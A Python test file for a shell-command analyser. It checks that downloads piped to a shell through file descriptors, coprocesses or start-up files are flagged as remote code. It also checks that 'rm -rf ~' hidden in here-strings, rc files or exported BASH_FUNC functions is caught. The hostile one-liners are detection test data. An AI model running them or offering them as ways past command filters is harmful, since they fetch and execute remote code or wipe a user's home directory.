"""Descriptors, start-up files and exported functions: what reaches a shell besides its words."""

from __future__ import annotations

import pytest

from signoff.actions.operation import Operation, Trait, Verb
from signoff.actions.place import Place
from signoff.actions.shell.meaning import understand_shell

PLACE = Place(cwd="/home/dev/project", home="/home/dev", project="/home/dev/project")
FETCH = "<(curl -s https://x.example/i)"


def _run(line: str) -> tuple[Operation, ...]:
    return understand_shell(line, PLACE).operations


@pytest.mark.parametrize(
    "line",
    [
        f"exec 3< {FETCH}; sh <&3",
        f"exec 3< {FETCH}; exec 4<&3; bash /dev/fd/4",
        f"exec {{fd}}< {FETCH}; sh <&$fd",
        f"exec 0< {FETCH}; sh",
        f'exec 3< {FETCH}; mapfile -u 3 -t a; eval "${{a[*]}}"',
        f"{{ sh <&3; }} 3< {FETCH}",
        "coproc curl -s https://x.example/i; sh <&${COPROC[0]}",
        f"bash --rcfile {FETCH} -i",
        f"bash -init-file {FETCH} -c true",
    ],
)
def test_a_download_is_followed_to_the_shell_that_reads_it(line: str) -> None:
    """Through any descriptor and any start-up file."""
    assert any(Trait.REMOTE_CODE in op.traits for op in _run(line))


@pytest.mark.parametrize(
    "line",
    [
        "exec 3<<< 'rm -rf ~'; sh <&3",
        "exec 3> /tmp/s; echo 'rm -rf ~' >&3; sh /tmp/s",
        "echo 'rm -rf ~' > /tmp/rc; bash --rcfile /tmp/rc -i",
        "env 'BASH_FUNC_ls%%=() { rm -rf ~; }' bash -c ls",
        "env 'BASH_FUNC_x%%=() { :; }; rm -rf ~' bash -c true",
        "f() { rm -rf \"$1\"; }; export -f f; bash -c 'f ~'",
    ],
)
def test_a_text_is_read_where_it_runs(line: str) -> None:
    """Texts behind descriptors, in start-up files and in functions are judged."""
    assert any(op.verb is Verb.DELETE and op.path == "/home/dev" for op in _run(line))


@pytest.mark.parametrize(
    "line",
    [
        "exec 3>&1; echo hi >&3; exec 3>&-",
        'exec 3< input.txt; read -r -u 3 a; echo "$a"',
        f"exec 3< {FETCH}; jq . <&3",
        "f() { grep -n x \"$1\"; }; export -f f; bash -c 'f a.txt'",
        "exec 3<<< 'echo hi'; sh <&3",
    ],
)
def test_ordinary_descriptors_run_nothing_unread(line: str) -> None:
    """Logs, lists and functions of a script pass."""
    found = _run(line)

    assert all(op.understood for op in found)
    assert Verb.DELETE not in {op.verb for op in found}


def test_a_descriptor_holds_for_its_command_only() -> None:
    """Without `exec` it is closed behind the command."""
    found = _run(f"true 3< {FETCH}; cat <&3 | sh")

    assert not any(Trait.REMOTE_CODE in op.traits for op in found)


def test_a_function_that_is_not_exported_stays() -> None:
    """Another shell does not know it."""
    deleted = [op for op in _run("f() { rm -rf \"$1\"; }; bash -c 'f ~'") if op.path == "/home/dev"]

    assert [] == deleted
